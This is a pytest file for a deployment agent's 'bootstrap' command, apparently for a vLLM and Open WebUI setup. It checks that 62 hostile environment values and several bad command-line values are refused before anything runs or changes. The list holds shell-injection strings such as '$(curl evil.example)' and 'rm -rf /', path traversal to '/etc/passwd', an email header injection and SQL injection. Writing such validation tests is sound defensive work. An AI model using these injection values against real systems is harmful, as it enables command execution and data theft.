"""Hostile values for the StackScript's fields and the CLI: every one is refused with exit 2,
the field named, nothing on disk changed, and nothing run (the autouse guard fails any command;
the bootstrap would run commands at once if a value got through)."""

from __future__ import annotations

import hashlib
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from agent.cli import main

# 62 values here, three on the command line and a port in use below: more than 40.
HOSTILE: list[tuple[str, str, str]] = [
    # (environment name, value, what the error must name)
    ("MODEL_ID", "x|g;s|vllm/vllm-openai:latest|attacker/img", "MODEL_ID"),
    ("MODEL_ID", "$(touch /tmp/pwned)", "MODEL_ID"),
    ("MODEL_ID", "`id`/name", "MODEL_ID"),
    ("MODEL_ID", "org/name\nrm -rf /", "MODEL_ID"),
    ("MODEL_ID", "org/" + "a" * 5000, "MODEL_ID"),
    ("MODEL_ID", "org/../name", "MODEL_ID"),
    ("MODEL_ID", "../etc/passwd", "MODEL_ID"),
    ("MODEL_ID", "org/..", "MODEL_ID"),
    ("MODEL_ID", "mistralai/Mistral\u200b-7B", "MODEL_ID"),
    ("MODEL_ID", "ｏｒｇ/ｎａｍｅ", "MODEL_ID"),
    ("MODEL_ID", "org/name; reboot", "MODEL_ID"),
    ("MODEL_REVISION", "main$(id)", "MODEL_REVISION"),
    ("SERVED_MODEL_NAME", "tiny'; DROP TABLE", "SERVED_MODEL_NAME"),
    ("HF_TOKEN_PASSWORD", "hf_abcdefgh\nexport X=1", "HF_TOKEN_PASSWORD"),
    ("HF_TOKEN_PASSWORD", "hf_abc defghij", "HF_TOKEN_PASSWORD"),
    ("HF_TOKEN_PASSWORD", "$(curl evil.example)", "HF_TOKEN_PASSWORD"),
    ("HF_TOKEN_PASSWORD", "ü" * 20, "HF_TOKEN_PASSWORD"),
    ("HF_TOKEN_PASSWORD", "h" * 600, "HF_TOKEN_PASSWORD"),
    ("HF_TOKEN", "hf_`reboot`xyz", "HF_TOKEN"),
    ("API_PORT", "0", "API_PORT"),
    ("API_PORT", "65536", "API_PORT"),
    ("API_PORT", "-1", "API_PORT"),
    ("API_PORT", "8000; rm -rf /", "API_PORT"),
    ("API_PORT", "８０００", "API_PORT"),
    ("API_PORT", "80 00", "API_PORT"),
    ("API_PORT", "1e3", "API_PORT"),
    ("UI_PORT", "99999", "UI_PORT"),
    ("ADMIN_EMAIL", "not-an-email", "ADMIN_EMAIL"),
    ("ADMIN_EMAIL", "a@b", "ADMIN_EMAIL"),
    ("ADMIN_EMAIL", "root@localhost$(id)", "ADMIN_EMAIL"),
    ("ADMIN_EMAIL", "x@y.com\nBcc: z@evil.example", "ADMIN_EMAIL"),
    ("ADMIN_EMAIL", "admin@exa mple.com", "ADMIN_EMAIL"),
    ("ADMIN_EMAIL", "用户@例子.广告", "ADMIN_EMAIL"),
    ("API_BIND", "0.0.0.0; id", "API_BIND"),
    ("API_BIND", "999.1.1.1", "API_BIND"),
    ("UI_BIND", "localhost", "UI_BIND"),
    ("MAX_MODEL_LEN", "auto; id", "MAX_MODEL_LEN"),
    ("MAX_MODEL_LEN", "-5", "MAX_MODEL_LEN"),
    ("MAX_MODEL_LEN", "1" * 50, "MAX_MODEL_LEN"),
    ("VLLM_IMAGE", "attacker/img;rm", "VLLM_IMAGE"),
    ("VLLM_IMAGE", "vllm/vllm-openai:latest$(id)", "VLLM_IMAGE"),
    ("WEBUI_IMAGE", "ghcr.io/open-webui/open-webui:`id`", "WEBUI_IMAGE"),
    ("GPUS", "-1", "GPUS"),
    ("GPUS", "all; id", "GPUS"),
    ("MODELS_DIR", "/opt/../etc", "MODELS_DIR"),
    ("MODELS_DIR", "relative/path", "MODELS_DIR"),
    ("MODELS_DIR", "/etc", "MODELS_DIR"),
    ("MODELS_DIR", "/opt/models:/root", "MODELS_DIR"),
    ("UI_DATA_DIR", "/opt/webui data", "UI_DATA_DIR"),
    ("HF_ENDPOINT", "file:///etc/passwd", "HF_ENDPOINT"),
    ("HF_ENDPOINT", "http://evil.example/$(id)", "HF_ENDPOINT"),
    ("PROJECT", "Bad Name", "PROJECT"),
    ("PROJECT", "-x", "PROJECT"),
    ("VLLM_EXTRA_ARGS", "--api-key stolen", "VLLM_EXTRA_ARGS"),
    ("VLLM_EXTRA_ARGS", "--x=$(id)", "VLLM_EXTRA_ARGS"),
    ("GPU_MEMORY_UTILIZATION", "1.5", "GPU_MEMORY_UTILIZATION"),
    ("READY_TIMEOUT", "9" * 30, "READY_TIMEOUT"),
    ("UI_ENABLED", "maybe", "UI_ENABLED"),
    ("LINODE_ID", "1; rm -rf /", "LINODE_ID"),
    ("LINODE_ID", "../../etc", "LINODE_ID"),
    ("SANDBOX_AGENT_BUNDLE", "../relative", "SANDBOX_AGENT_BUNDLE"),
    ("SANDBOX_AGENT_BUNDLE", "/etc/passwd", "SANDBOX_AGENT_BUNDLE"),
]


def digest(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        if p.is_file()
        else "dir"
        for p in sorted(folder.rglob("*"))
    }


@pytest.fixture
def box(tmp_path: Path, write_config) -> Iterator[dict[str, str]]:
    config = write_config()
    (tmp_path / "root/etc").mkdir(parents=True)
    (tmp_path / "root/etc/os-release").write_text('ID=debian\nVERSION_ID="12"\n')
    env = {
        "SANDBOX_AGENT_CONFIG": str(config),
        "SANDBOX_AGENT_ROOT": str(tmp_path / "root"),
        "LINODE_ID": "4242",
    }
    yield env


def bootstrap(env: dict[str, str], *args: str) -> tuple[int, str]:
    runner = CliRunner()
    result = runner.invoke(main, ["bootstrap", *args], env=env, catch_exceptions=False)
    return result.exit_code, result.output


@pytest.mark.parametrize(
    ("name", "value", "field"), HOSTILE, ids=[f"{n}-{i}" for i, (n, _, _) in enumerate(HOSTILE)]
)
def test_a_hostile_value_is_refused_before_anything_changes(
    tmp_path: Path, box: dict[str, str], fake_commands, name: str, value: str, field: str
) -> None:
    before = digest(tmp_path)
    code, output = bootstrap({**box, name: value})
    assert code == 2, output
    assert output.startswith("error: ") and field in output.splitlines()[0], output
    assert digest(tmp_path) == before
    assert fake_commands.calls == []
    if "TOKEN" in name:
        assert value not in output  # a secret is never echoed, even a malformed one
    assert len(output) < 1500  # a huge value is not printed back whole


def test_a_port_in_use_is_refused_naming_it(tmp_path: Path, box, fake_commands) -> None:
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = str(taken.getsockname()[1])
        before = digest(tmp_path)
        code, output = bootstrap({**box, "API_BIND": "127.0.0.1", "API_PORT": port})
    assert code == 2
    assert output.splitlines()[0] == (
        f"error: API_PORT ({port}): port {port} on 127.0.0.1 is in use by another program "
        "(or 127.0.0.1 is not an address of this box)"
    )
    assert digest(tmp_path) == before and fake_commands.calls == []


def test_the_ui_on_the_api_port_is_refused(tmp_path: Path, box, fake_commands) -> None:
    code, output = bootstrap({**box, "API_PORT": "18000", "UI_PORT": "18000"})
    assert code == 2
    assert output.splitlines()[0] == (
        "error: ui.port (from environment UI_PORT): 18000 is the port of api.port too"
    )


@pytest.mark.parametrize(
    ("args", "field"),
    [
        (("--bundle", "x;y"), "--bundle"),
        (("--bundle", "/opt/$(id)"), "--bundle"),
        (("--config", "/nonexistent/config.yaml"), "--config"),
    ],
)
def test_hostile_command_line_values_are_refused(
    tmp_path: Path, box, fake_commands, args: tuple[str, ...], field: str
) -> None:
    before = digest(tmp_path)
    code, output = bootstrap(box, *args)
    assert code == 2 and field in output.splitlines()[0], output
    assert digest(tmp_path) == before and fake_commands.calls == []


def test_a_port_the_proxy_needs_in_use_is_refused_before_anything_changes(
    tmp_path: Path, box, fake_commands
) -> None:
    """A web server already on the box's https port: the bootstrap says so at once, rather
    than the proxy failing at the gate."""
    with socket.socket() as taken:
        taken.bind(("0.0.0.0", 0))
        taken.listen()
        port = str(taken.getsockname()[1])
        before = digest(tmp_path)
        form = {**box, "HTTPS_DOMAIN": "chat.example.com", "UI_BIND": "0.0.0.0", "HTTPS_PORT": port}
        code, output = bootstrap(form)
    assert code == 2
    assert output.splitlines()[0].startswith(f"error: HTTPS_PORT ({port}): port {port} on 0.0.0.0")
    assert digest(tmp_path) == before and fake_commands.calls == []
